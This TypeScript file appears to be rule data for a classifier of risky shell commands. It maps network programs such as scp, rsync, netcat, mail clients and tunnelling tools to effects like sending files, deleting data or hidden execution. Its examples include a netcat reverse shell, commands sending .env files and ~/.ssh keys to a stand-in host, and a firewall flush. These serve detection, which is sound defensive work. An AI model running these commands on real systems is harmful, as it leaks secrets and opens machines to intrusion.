import type { Row } from '../command/row.js';

const SYNC_DELETES = ['--delete', '--delete-after', '--delete-before', '--delete-during', '--delete-delay', '--delete-excluded', '--del'] as const;
/** With these it deletes what it has copied, at the side that it was copied from. */
const MOVES = ['--remove-source-files', '--remove-sent-files'] as const;

/** Programs that reach other machines. */
export const NETWORK: readonly Row[] = [
  {
    program: 'scp',
    operands: { each: 'send', last: 'destination' },
    recursive: ['-r'],
    options: { '-i': 'use', '-P': 'text', '-o': 'ssh-option', '-F': 'read', '-S': 'hidden', '-J': 'text', '-l': 'text', '-c': 'text' },
    examples: [
      ['scp x.test:a b.txt', 'write /home/u/proj/b.txt'],
      ['scp -o ProxyCommand=./x a x.test:/b', 'execute hidden-command:ssh -o'],
      ['scp .env u@x.test:', 'send /home/u/proj/.env'],
      ['scp -F .env x.test:a b', 'read /home/u/proj/.env'],
      ['scp -S ./x a b:', 'execute hidden-command:scp'],
      ['scp -r ~/.ssh u@x.test:', 'send -r /home/u/.ssh'],
    ],
  },
  {
    program: 'rsync',
    operands: { each: 'read', last: 'write' },
    recursive: ['-r', '-a', '--recursive', '--archive'],
    options: {
      '-e': 'hidden', '--rsh': 'hidden', '--rsync-path': 'hidden', '--exclude': 'text', '--include': 'text', '--exclude-from': 'read', '--files-from': 'list',
      '--password-file': 'use', '--log-file': 'write', '--link-dest': 'write', '-f': 'text', '--filter': 'text', '--port': 'text', '--bwlimit': 'text', '--chmod': 'text',
    },
    variants: [
      { when: { any: ['-n', '--dry-run', '--list-only'] }, operands: 'inspect', effects: [] },
      { when: { any: MOVES, operand: /^[\w.-]+@[\w.-]+:|^[\w.-]{2,}:|^rsync:\/\//, line: /:[^\s:]*$/ }, operands: { each: ['send', 'delete'], last: 'destination' }, recursive: true },
      { when: { any: MOVES, noOperand: /^[\w.-]+@[\w.-]+:|^[\w.-]{2,}:|^rsync:\/\// }, operands: { each: ['read', 'delete'], last: 'write' }, recursive: true },
      { when: { any: SYNC_DELETES, operand: /^[\w.-]+@[\w.-]+:|^[\w.-]{2,}:|^rsync:\/\//, line: / [^\s:]+$/ }, operands: { each: 'remote', last: ['write', 'delete'] }, recursive: true },
      { when: { operand: /^[\w.-]+@[\w.-]+:|^[\w.-]{2,}:|^rsync:\/\// }, operands: { each: 'send', last: 'destination' } },
      { when: { any: SYNC_DELETES }, operands: { each: 'read', last: ['write', 'delete'] }, recursive: true },
    ],
    effects: [
      { kind: 'destroy', resource: 'host', when: { any: SYNC_DELETES, none: ['-n', '--dry-run'], operand: /^[\w.-]+(?:@[\w.-]*)?:/ } },
      { kind: 'destroy', resource: 'host', name: 'what is fetched', when: { any: MOVES, none: ['-n', '--dry-run'], line: /^[\w.-]+(?:@[\w.-]*)?:/ } },
    ],
    examples: [
      ['rsync -a ~/ u@x.test:b', 'send -r /home/u'],
      ['rsync u@x.test:a b', 'write /home/u/proj/b'],
      ['rsync -a --delete x.test:a/ b/', 'delete -r /home/u/proj/b'],
      ['rsync -a --delete a/ b/', 'delete -r /home/u/proj/b'],
      ['rsync -a --remove-source-files a/ b/', 'delete -r /home/u/proj/a', 'write -r /home/u/proj/b'],
      ['rsync -a --remove-source-files a/ u@x.test:b', 'delete -r /home/u/proj/a', 'send -r /home/u/proj/a'],
      ["rsync -e 'sh -c id' a b", 'execute hidden-command'],
    ],
  },
  { program: 'lftp | ncftpput | ftp | tftp | smbclient', operands: 'host', options: { '-e': 'transfer', '-c': 'transfer', '-u': 'text', '-U': 'text', '-p': 'text', '-n': 'text', '-o': 'write' }, dashed: true, stdin: 'transfer', effects: [{ kind: 'destroy', resource: 'host', when: { value: /^-[ec]=(?:.*[;\s])?(?:(?:m?r?rm|mdelete|delete|rmdir|glob rm) |mirror\b.*--delete\b)/ } }], examples: [["lftp -e 'mirror -R --delete dist/ /srv; bye' x.test", 'destroy host'], ["lftp -e 'rm -r /srv; bye' x.test", 'destroy host'], ["lftp -e 'mirror -R dist/ /srv; bye' x.test", 'send -r /home/u/proj/dist'], ["lftp -e 'mirror --reverse -x ^a$ dist /srv' x.test", 'send -r /home/u/proj/dist'], ["lftp -e 'mirror /srv dist' x.test", 'fetch host:x.test'], ["lftp -e 'put .env; bye' x.test", 'send /home/u/proj/.env'], ["smbclient //x.test/s -c 'put .env'", 'send /home/u/proj/.env']] },
  {
    program: 'wormhole send | magic-wormhole send | croc send | croc | ffsend upload | pastebinit | wgetpaste | slackcat | telegram-send | transfer | transfer.sh | termbin | hastebin | haste | onionshare-cli | ipfs add | gist | bashupload | keybase fs cp | imgur | oshi',
    operands: 'send',
    recursive: true,
    options: { '-i': 'send', '-f': 'send', '--file': 'send', '-c': 'text', '--channel': 'text', '--filename': 'text', '-t': 'text', '--title': 'text', '--code': 'text', '--exclude': 'text' },
    stdin: 'send',
    effects: [{ kind: 'send', resource: 'host' }],
    examples: [['croc send .env', 'send -r /home/u/proj/.env'], ['pastebinit -i .env', 'send -r /home/u/proj/.env']],
  },
  // With a side that wins, all that the other has of its own goes.
  {
    program: 'unison',
    operands: { each: ['read', 'write'] },
    recursive: true,
    dashed: true,
    options: { '-force': 'text', '-prefer': 'text', '-ignore': 'text', '-path': 'text', '-root': 'read', '-log': 'text', '-logfile': 'write', '-sshargs': 'hidden', '-sshcmd': 'hidden', '-diff': 'hidden', '-merge': 'hidden' },
    variants: [{ when: { any: ['-force'] }, operands: { each: ['read', 'write', 'delete'] } }],
    examples: [['unison -batch -force a a b', 'delete -r /home/u/proj/b'], ['unison a b', 'write -r /home/u/proj/b'], ['unison -sshcmd ./x a b', 'execute hidden-command']],
  },
  {
    program: 'mosquitto_pub | kafkacat | kcat',
    operands: 'send',
    options: {
      '-f': 'send', '-h': 'text', '-t': 'text', '-b': 'text', '-m': 'text', '-u': 'text', '-P': 'text', '-p': 'text', '-q': 'text', '-i': 'text', '-G': 'text',
      '-K': 'text', '-o': 'text', '-c': 'text', '-X': 'text', '-F': 'use',
    },
    variants: [{ when: { any: ['-C', '-L', '-Q'] }, operands: 'text' }],
    stdin: 'send',
    effects: [{ kind: 'send', resource: 'host' }],
    examples: [['mosquitto_pub -h x.test -t t -f .env', 'send /home/u/proj/.env']],
  },
  { program: 'logger | qrencode | say | espeak', operands: 'text', options: { '-f': 'read', '--file': 'read', '-r': 'read', '-t': 'text', '-p': 'text', '-n': 'text', '-o': 'write', '-s': 'text', '-v': 'text' }, examples: [['logger -f .env', 'read /home/u/proj/.env']] },
  { program: 'sftp', operands: 'host', options: { '-b': 'execute', '-i': 'use', '-o': 'ssh-option', '-P': 'text', '-F': 'read', '-S': 'hidden', '-D': 'hidden' }, stdin: 'transfer', examples: [['sftp -o ProxyCommand=./x x.test', 'execute hidden-command:ssh -o'], ['sftp -D ./x x.test', 'execute hidden-command:sftp'], ["sftp x.test <<< '!rm a'", 'delete /home/u/proj/a'], ["sftp x.test <<< 'put .env'", 'send /home/u/proj/.env'], ['sftp -b a x.test', 'execute /home/u/proj/a']] },
  {
    program: 'nc | ncat | netcat | socat | telnet | websocat',
    operands: 'text',
    options: {
      '-p': 'text', '-w': 'text', '-s': 'text', '-X': 'text', '-x': 'text', '-q': 'text', '-e': 'hidden', '--exec': 'hidden', '-c': 'hidden', '--sh-exec': 'hidden',
      '-i': 'text', '-connect': 'text',
    },
    stdin: 'send',
    effects: [
      { kind: 'send', resource: 'host', when: { none: ['-z', '-l', '-lk'] } },
      { kind: 'execute', resource: 'host', when: { any: ['-e', '--exec', '--sh-exec'] } },
      { kind: 'execute', resource: 'host', when: { operand: /^(?:exec|system):/i } },
    ],
    examples: [['nc x.test 80 < .env', 'send /home/u/proj/.env'], ['nc -e /bin/sh x.test 1', 'execute host'], ['nc -z localhost 5432']],
  },
  {
    program: 'openssl s_client',
    dashed: true,
    operands: 'text',
    options: {
      '-connect': 'text', '-host': 'text', '-port': 'text', '-servername': 'text', '-cert': 'use', '-key': 'use', '-CAfile': 'use', '-CApath': 'use', '-proxy': 'text',
      '-starttls': 'text', '-alpn': 'text',
    },
    stdin: 'send',
    effects: [{ kind: 'send', resource: 'host' }],
    examples: [['openssl s_client -connect x.test:443 < .env', 'send /home/u/proj/.env'], ['openssl s_client -connect x.test:443 -cert c -key k', 'use /home/u/proj/k']],
  },
  { program: 'ping | ping6 | traceroute | mtr | dig | nslookup | host | drill | whois | kdig', operands: 'host', options: { '-c': 'text', '-i': 'text', '-W': 'text', '-t': 'text', '-p': 'text', '-f': 'read', '-q': 'text', '-s': 'text' }, examples: [['ping -c 1 x.test', 'fetch host:x.test']] },
  { program: 'tcpdump', operands: 'text', options: { '-z': 'hidden', '-w': 'write', '-r': 'read', '-i': 'text', '-c': 'text', '-G': 'text', '-C': 'text', '-W': 'text', '-s': 'text', '-Z': 'text', '-T': 'text', '-F': 'read' }, examples: [['tcpdump -e -z ./x -w a -G 1', 'execute hidden-command:tcpdump', 'write /home/u/proj/a'], ['tcpdump -r a', 'read /home/u/proj/a']] },
  { program: 'openvpn', operands: 'use', dashed: true, options: Object.fromEntries([...['--up', '--down', '--route-up', '--ipchange', '--client-connect', '--tls-verify', '--auth-user-pass-verify', '--learn-address'].map((option) => [option, 'hidden'] as const), ['--plugin', 'execute'], ['--config', 'use']]), examples: [["openvpn --dev null --script-security 2 --up 'sh -c ./x'", 'execute hidden-command:openvpn'], ['openvpn --config a.ovpn', 'use /home/u/proj/a.ovpn']] },
  { program: 'ztcp', operands: 'text', effects: [{ kind: 'execute', resource: 'host', when: { operands: 'some' } }], examples: [['ztcp 10.0.0.5 4444', 'execute host'], ['ztcp -L']] },
  { program: 'nmap | masscan', operands: 'host', options: { '-p': 'text', '--script': 'execute', '-oN': 'write', '-iL': 'read' }, dashed: true, examples: [['nmap --script=x host', 'execute /home/u/proj/x']] },
  { program: 'mail | mailx | mutt | sendmail | msmtp | swaks | s-nail', operands: 'text', options: { '-a': 'send', '-A': 'send', '--attach': 'send', '-s': 'text', '-c': 'text', '-b': 'text', '-r': 'text', '-H': 'text' }, stdin: 'send', effects: [{ kind: 'send', resource: 'host' }], examples: [['mail -a .env -s x a@x.test', 'send /home/u/proj/.env']] },
  { program: 'ssh-import-id | ssh-import-id-gh | ssh-import-id-lp', operands: 'text', options: { '-o': 'write', '--output': 'write', '-u': 'text' }, effects: [{ kind: 'write', path: '~/.ssh/authorized_keys', when: { none: ['-o', '--output', '-r', '--remove'] } }], examples: [['ssh-import-id gh:x', 'write /home/u/.ssh/authorized_keys'], ['ssh-import-id-gh x -o a', 'write /home/u/proj/a']] },
  { program: 'ssh-copy-id', operands: 'host', options: { '-i': 'use', '-p': 'text', '-o': 'text' }, effects: [{ kind: 'change-permission', resource: 'account', name: 'authorized keys', when: { operands: 'some', none: ['-n', '-h', '-?'] } }], examples: [['ssh-copy-id -i k x.test', 'use /home/u/proj/k', 'change-permission account:authorized keys'], ['ssh-copy-id -n -i k x.test']] },
  { program: 'ssh-keygen', operands: 'text', options: { '-f': 'use', '-t': 'text', '-b': 'text', '-C': 'text', '-N': 'text', '-P': 'text', '-R': 'text', '-F': 'text', '-D': 'execute', '-E': 'text' }, effects: [{ kind: 'change-permission', resource: 'credential', name: 'no passphrase', when: { any: ['-p'], value: /^-N=$/ } }], examples: [['ssh-keygen -lf k', 'use /home/u/proj/k'], ["ssh-keygen -p -N '' -f k", 'change-permission credential:no passphrase'], ["ssh-keygen -t ed25519 -N '' -f k"], ['ssh-keygen -p -f k']] },
  { program: 'ssh-add | ssh-agent | ssh-keyscan', operands: 'use', stdin: 'use', options: { '-t': 'text', '-p': 'text', '-s': 'execute', '-f': 'read' }, variants: [{ when: { any: ['-l', '-L', '-D'] }, operands: 'text' }], examples: [['ssh-keyscan -f .env', 'read /home/u/proj/.env'], ['ssh-keyscan github.com'], ['ssh-add -l'], ['ssh-add k', 'use /home/u/proj/k']] },
  { program: 'iptables | ip6tables | nft | ufw | firewall-cmd | pfctl', operands: 'text', options: { '-t': 'text' }, variants: [{ when: { any: ['-L', '-S', '--list', '--list-all'] }, effects: [] }, { when: { operand: /^(?:status|list|show)$/ }, effects: [] }], effects: [{ kind: 'change-service', resource: 'machine', name: 'firewall' }], examples: [['iptables -F', 'change-service machine:firewall'], ['ufw status']] },
  { program: 'ip', dashed: true, operands: 'text', options: { '-batch': 'read', '-b': 'read', '-n': 'text', '-f': 'text' }, effects: [{ kind: 'change-service', resource: 'machine', name: 'network', when: { operand: /^(?:del|delete|flush|down)$/ } }], examples: [['ip link set eth0 down', 'change-service machine:network'], ['ip addr']] },
  { program: 'resolvectl dns | resolvectl domain | resolvectl default-route', operands: 'text', effects: [{ kind: 'change-service', resource: 'machine', name: 'network', when: { line: /\S \S/ } }], examples: [['resolvectl dns eth0 192.0.2.1', 'change-service machine:network'], ['resolvectl dns'], ['resolvectl dns eth0']] },
  // Whoever is on the machine's net may look at the screen, and type.
  { program: 'xhost', operands: 'text', effects: [{ kind: 'change-service', resource: 'machine', name: 'security', when: { line: /^\+$/ } }], examples: [['xhost +', 'change-service machine:security'], ['xhost'], ['xhost +local:docker'], ['xhost -']] },
  {
    program: 'ifconfig | route | nmcli | networksetup',
    operands: 'text',
    effects: [
      { kind: 'reveal-environment', resource: 'credential', name: 'wifi', when: { any: ['-s', '--show-secrets'], operand: /^(?:c|con|connection)$/ } },
      { kind: 'change-service', resource: 'machine', name: 'network', when: { operand: /^(?:del|delete|flush|down|off|-setdnsservers)$/ } },
    ],
    examples: [
      ['nmcli -s connection show home', 'reveal-environment credential:wifi'],
      ['nmcli connection show home'],
      ['ifconfig eth0 down', 'change-service machine:network'],
    ],
  },
  {
    program: 'tailscale',
    operands: 'text',
    variants: [{ when: { operand: [/^funnel$/, /^(?:status|reset|off)$/] }, effects: [] }],
    effects: [
      { kind: 'send', resource: 'host', name: 'reverse tunnel', when: { operand: /^funnel$/ } },
      { kind: 'change-service', resource: 'machine', name: 'network', when: { operand: /^(?:logout|down)$/ } },
    ],
    examples: [['tailscale funnel 3000', 'send host:reverse tunnel'], ['tailscale funnel status'], ['tailscale status']],
  },
  {
    program: 'ngrok | pgrok | zrok | loclx | localxpose | pinggy | devtunnel | inlets | inlets-pro | gotunnelme',
    operands: 'text',
    effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel', when: { operand: /^(?:http|https|tcp|tls|udp|start|start-all|share|tunnel|host|client)$/ } }],
    examples: [['ngrok http 80', 'send host:reverse tunnel'], ['devtunnel host -p 3000', 'send host:reverse tunnel'], ['ngrok config check']],
  },
  {
    program: 'cloudflared',
    operands: 'text',
    options: { '--config': 'use', '--url': 'text', '--loglevel': 'text', '--cred-file': 'write' },
    variants: [{ when: { value: /^--cred-file=\/(?:dev|proc)\//, line: /^tunnel token(?: |$)/ }, effects: [{ kind: 'reveal-environment', resource: 'credential', name: 'tunnel' }] }, { when: { line: /^tunnel token(?: |$)/, none: ['--cred-file'] }, effects: [{ kind: 'reveal-environment', resource: 'credential', name: 'tunnel' }] }, { when: { operand: /^(?:list|ls|info|login|create|token|cleanup|ready|diag|ingress|validate|help|version|update)$/ }, effects: [] }],
    effects: [
      { kind: 'destroy', resource: 'cloud', when: { operand: [/^tunnel$/, /^delete$/] } },
      { kind: 'send', resource: 'host', name: 'reverse tunnel', when: { operand: /^tunnel$/ } },
    ],
    examples: [
      ['cloudflared tunnel --url http://localhost:80', 'send host:reverse tunnel'],
      ['cloudflared tunnel run web', 'send host:reverse tunnel'],
      ['cloudflared tunnel token web', 'reveal-environment credential:tunnel'],
      ['cloudflared tunnel token --cred-file a web', 'write /home/u/proj/a'],
      ['cloudflared tunnel token --cred-file /dev/stdout web', 'reveal-environment credential:tunnel'],
      ['cloudflared tunnel list'],
      ['cloudflared --version'],
    ],
  },
  {
    program: 'bore | frpc | serveo | telebit | rathole',
    operands: 'text',
    variants: [{ when: { operand: /^(?:server|verify|reload|status)$/ }, effects: [] }],
    effects: [
      { kind: 'send', resource: 'host', name: 'reverse tunnel', when: { operands: 'some' } },
      { kind: 'send', resource: 'host', name: 'reverse tunnel', when: { any: ['-c', '--config'] } },
    ],
    examples: [['bore local 80 --to bore.test', 'send host:reverse tunnel'], ['frpc -c frpc.toml', 'send host:reverse tunnel'], ['bore --help']],
  },
  {
    program: 'localtunnel | lt | tunnelmole | tmole | instatunnel',
    operands: 'text',
    options: { '-p': 'text', '--port': 'text', '-s': 'text', '--subdomain': 'text', '-h': 'text', '--host': 'text' },
    effects: [
      { kind: 'send', resource: 'host', name: 'reverse tunnel', when: { any: ['-p', '--port'] } },
      { kind: 'send', resource: 'host', name: 'reverse tunnel', when: { operand: /^\d+$/ } },
    ],
    examples: [['npx localtunnel --port 80', 'send host:reverse tunnel'], ['tmole 80', 'send host:reverse tunnel'], ['lt --version']],
  },
  {
    program: 'ttyd | gotty | tmate | sshx | upterm host | teleconsole | wetty',
    operands: 'text',
    options: { '-p': 'text', '--port': 'text', '-c': 'text', '--credential': 'text', '-F': 'text', '-S': 'text' },
    variants: [{ when: { operand: /^(?:show-messages|display|kill-server|kill-session|has-session|list-sessions)$/ }, effects: [] }],
    effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel', when: { none: ['--help', '--version', '-V', '-v'] } }],
    examples: [['ttyd -p 80 bash', 'send host:reverse tunnel'], ['tmate -F', 'send host:reverse tunnel'], ['ttyd --version']],
  },
  { program: 'code tunnel | code-insiders tunnel', operands: 'text', options: { '--name': 'text' }, variants: [{ when: { operand: /^(?:status|kill|unregister|prune|help)$/ }, effects: [] }], effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel' }], examples: [['code tunnel --accept-server-license-terms', 'send host:reverse tunnel'], ['code tunnel status']] },
  { program: 'chisel client', operands: 'text', effects: [{ kind: 'send', resource: 'host', name: 'reverse tunnel', when: { operand: /^R:/ } }], examples: [['chisel client h.test:80 R:8000:localhost:80', 'send host:reverse tunnel'], ['chisel client h.test:80 8000:localhost:80']] },
  { program: 'serve | http-server | live-server | miniserve', operands: 'send', defaultOperand: '.', recursive: true, options: { '-p': 'text', '-l': 'text', '--port': 'text', '--listen': 'text', '-a': 'text', '-c': 'text', '--host': 'text', '-i': 'text' }, examples: [['npx serve -l 3000 dist', 'send -r /home/u/proj/dist'], ['http-server', 'send -r /home/u/proj']] },
];
